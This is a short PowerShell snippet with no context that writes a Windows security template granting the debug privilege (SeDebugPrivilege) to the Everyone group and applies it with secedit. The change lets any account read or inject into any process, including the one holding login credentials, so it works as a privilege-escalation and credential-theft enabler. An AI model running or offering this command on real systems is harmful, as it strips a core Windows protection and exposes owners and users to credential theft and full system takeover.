Set-Content C:\r.inf @'
[Privilege Rights]
SeDebugPrivilege = *S-1-1-0
'@
secedit /configure /db C:\r.sdb /cfg C:\r.inf /areas SECURITYPOLICY
